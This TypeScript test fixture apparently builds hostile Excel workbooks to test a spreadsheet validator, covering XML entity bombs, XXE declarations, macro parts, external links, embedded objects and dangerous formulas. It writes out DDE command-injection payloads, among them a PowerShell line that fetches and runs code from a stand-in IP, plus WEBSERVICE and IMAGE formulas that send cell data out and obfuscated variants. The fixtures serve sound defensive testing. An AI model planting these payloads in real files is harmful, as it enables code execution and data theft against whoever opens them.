import { type BadFile, badWorkbook } from './bad-file.ts'
import { relationshipsPart, relationshipXml, sheetXml } from './workbook-builder.ts'

const external = ' TargetMode="External"'
const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')

const documentTypes: BadFile[] = [
  '<!DOCTYPE a [<!ENTITY l "lol"><!ENTITY m "&l;&l;&l;&l;&l;&l;&l;&l;&l;">]>',
  '<!DOCTYPE a SYSTEM "file:///etc/passwd">',
  '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://198.51.100.7/x.dtd">%x;]>',
  '<!doctype a>',
].flatMap((declaration, index) =>
  [
    '[Content_Types].xml',
    '_rels/.rels',
    'xl/workbook.xml',
    'xl/_rels/workbook.xml.rels',
    'xl/styles.xml',
    'xl/sharedStrings.xml',
    'xl/worksheets/sheet1.xml',
    'xl/theme/theme1.xml',
    'xl/comments1.xml',
    'xl/drawings/vmlDrawing1.vml',
    'docProps/custom.xml',
  ].map((name) =>
    badWorkbook('DOCUMENT_TYPE', `${index} in ${name}`, {
      files: [{ name, data: `<?xml version="1.0"?>\n${declaration}<a/>` }],
    }),
  ),
)

const macroTypes = [
  'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
  'application/vnd.ms-excel.template.macroEnabled.main+xml',
  'application/vnd.ms-excel.addin.macroEnabled.main+xml',
  'application/vnd.ms-office.vbaProject',
]

const macros: BadFile[] = [
  ...[
    'xl/vbaProject.bin',
    'xl/VBAPROJECT.BIN',
    'vbaProject.bin',
    'xl/vbaProjectSignature.bin',
    'xl/macrosheets/sheet1.xml',
    'xl/dialogsheets/sheet1.xml',
  ].map((name) => badWorkbook('MACROS', name, { files: [{ name, data: '<a/>' }] })),
  ...macroTypes.map((type) =>
    badWorkbook('MACROS', type, {
      contentTypes: `<Types><Override PartName="/xl/workbook.xml" ContentType="${type}"/></Types>`,
    }),
  ),
  ...['vbaProject', 'xlMacrosheet', 'xlIntlMacrosheet'].map((type) =>
    badWorkbook('MACROS', `relationship ${type}`, { relationships: relationshipXml('rId1', type, 'hidden.bin') }),
  ),
  ...['_xlnm.Auto_Open', 'Auto_Open', 'auto_close', '_xlnm.Auto_Activate'].map((name) =>
    badWorkbook('MACROS', name, {
      afterSheets: `<definedNames><definedName name="${name}">名单!$A$1</definedName></definedNames>`,
    }),
  ),
  badWorkbook('MACROS', 'a function of Excel 4', {
    afterSheets: '<definedNames><definedName name="f" function="1" xlm="1">名单!$A$1</definedName></definedNames>',
  }),
]

const linkTypes = ['oleObject', 'image', 'externalLinkPath', 'attachedTemplate', 'frame', 'package']

const links: BadFile[] = [
  ...[
    'xl/externalLinks/externalLink1.xml',
    'xl/ExternalLinks/externalLink1.xml',
    'xl/connections.xml',
    'xl/queryTables/queryTable1.xml',
  ].map((name) => badWorkbook('EXTERNAL_LINKS', name, { files: [{ name, data: '<a/>' }] })),
  ...linkTypes.flatMap((type) =>
    [
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/worksheets/_rels/sheet1.xml.rels',
      'xl/drawings/_rels/drawing1.xml.rels',
    ].map((name) =>
      badWorkbook('EXTERNAL_LINKS', `${type} in ${name}`, {
        files: [{ name, data: relationshipsPart(relationshipXml('rId1', type, 'file:///C:/x', external)) }],
      }),
    ),
  ),
  badWorkbook('EXTERNAL_LINKS', 'in other letters', {
    relationships: relationshipXml('rId1', 'worksheet', 'http://198.51.100.7/x', ' TargetMode="&#69;xternal"'),
  }),
]

const embedded: BadFile[] = [
  'xl/embeddings/oleObject1.bin',
  'xl/embeddings/a.docx',
  'xl/activeX/activeX1.bin',
  'word/embeddings/a.bin',
].map((name) => badWorkbook('EMBEDDED_OBJECTS', name, { files: [{ name, data: 'x' }] }))

const reaching = [
  "cmd|'/C calc'!A0",
  "cmd|' /C powershell IEX(wget 198.51.100.7/x)'!A0",
  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  "1+1+cmd|'/C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'ddeauto("cmd")',
  'WEBSERVICE("http://198.51.100.7/?"&A1)',
  'FILTERXML(WEBSERVICE("http://198.51.100.7"),"//a")',
  '_xlfn.WEBSERVICE("http://198.51.100.7")',
  'webservice ("http://198.51.100.7")',
  'RTD("x",,"y")',
  'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://198.51.100.7","x")',
  'REGISTER("kernel32","WinExec","JCJ","x")',
  'REGISTER.ID("kernel32","WinExec")',
  'EXEC("calc")',
  'IMPORTXML("http://198.51.100.7","//a")',
  'IMPORTDATA("http://198.51.100.7")',
  'IMPORTRANGE("x","A1")',
  'IMAGE("http://198.51.100.7/?"&A1)',
  'SQL.REQUEST("x")',
  '[1]Sheet1!$A$1',
  "'C:\\[名单.xlsx]Sheet1'!A1",
  '[名单.xls]Sheet1!A1',
  'VLOOKUP(A1,[2]!表,2,0)',
]

const formulas: BadFile[] = [
  ...reaching.map((formula) =>
    badWorkbook('DANGEROUS_FORMULA', formula, {
      rows: `<row r="1"><c r="A1"><f>${escaped(formula)}</f><v>1</v></c></row>`,
    }),
  ),
  ...["cmd&#124;'/C calc'!A0", "cmd&#x7C;'/C calc'!A0", "<![CDATA[cmd|'/C calc'!A0]]>", "cm<!-- -->d|'/C calc'!A0"].map(
    (formula) =>
      badWorkbook('DANGEROUS_FORMULA', `disguised ${formula}`, {
        rows: `<row r="1"><c r="A1"><f>${formula}</f></c></row>`,
      }),
  ),
  badWorkbook('DANGEROUS_FORMULA', 'prefixed', { rows: "<row r='1'><c r='A1'><x:f>cmd|'/C calc'!A0</x:f></c></row>" }),
  badWorkbook('DANGEROUS_FORMULA', 'array', {
    rows: `<row r="1"><c r="A1"><f t="array" ref="A1">cmd|'/C calc'!A0</f></c></row>`,
  }),
  badWorkbook('DANGEROUS_FORMULA', 'in a defined name', {
    afterSheets: `<definedNames><definedName name="x">cmd|'/C calc'!A0</definedName></definedNames>`,
  }),
  badWorkbook('DANGEROUS_FORMULA', 'on a hidden sheet', {
    sheets: '<sheet name="名单" sheetId="1" r:id="rId1"/><sheet name="藏" sheetId="2" state="veryHidden" r:id="rId2"/>',
    relationships:
      relationshipXml('rId1', 'worksheet', 'worksheets/sheet1.xml') +
      relationshipXml('rId2', 'worksheet', 'worksheets/sheet2.xml') +
      relationshipXml('rId3', 'sharedStrings', 'sharedStrings.xml'),
    files: [
      { name: 'xl/worksheets/sheet2.xml', data: sheetXml(`<row r="1"><c r="A1"><f>cmd|'/C calc'!A0</f></c></row>`) },
    ],
  }),
  badWorkbook('TOO_MANY_FORMULAS', '10,001 among other cells', {
    rows: Array.from(
      { length: 10_001 },
      (_, i) =>
        `<row r="${i + 1}"><c><f>ROW()*${i * 7919}</f></c><c><v>${i * 104_729}</v></c><c><v>${i * 1_299_709}</v></c></row>`,
    ).join(''),
  }),
  badWorkbook('TOO_MANY_FORMULAS', 'a sheet that is all formulas', {
    rows: Array.from({ length: 300 }, (_, i) => `<row r="${i + 1}"><c><f>ROW()</f><v>1</v></c></row>`).join(''),
  }),
  badWorkbook('TOO_MANY_FORMULAS', 'one array over everything', {
    rows: '<row r="1"><c r="A1"><f t="array" ref="A1:XFD1048576">B1</f></c></row>',
  }),
  badWorkbook('TOO_MANY_FORMULAS', 'arrays over each other', {
    rows: Array.from(
      { length: 1_000 },
      (_, i) => `<row r="${i + 1}"><c><f t="array" ref="A1:J900">B${i}</f></c></row>`,
    ).join(''),
  }),
]

export const hostileWorkbooks: readonly BadFile[] = [...documentTypes, ...macros, ...links, ...embedded, ...formulas]
